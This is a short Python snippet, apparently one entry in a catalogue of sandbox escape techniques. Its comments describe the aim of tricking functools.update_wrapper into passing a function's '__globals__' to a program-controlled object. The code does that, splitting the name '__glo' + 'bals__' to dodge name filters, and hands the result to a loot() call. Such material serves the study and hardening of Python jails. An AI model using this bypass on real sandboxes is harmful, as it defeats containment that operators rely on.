# aim: let functools hand a forbidden attribute to an update method of the program's
# mechanism: update_wrapper calls getattr(wrapper, name).update(getattr(wrapped, name))
# language: builtins
# reason: the library reads names that the program chose
# jail: process
# plain: loot

import functools
import json


class Catcher:
    def update(self, value):
        loot(value)

    def __getattr__(self, name):
        return self

    def __setattr__(self, name, value):
        pass


functools.update_wrapper(Catcher(), json.dumps, assigned=(), updated=("__glo" + "bals__",))
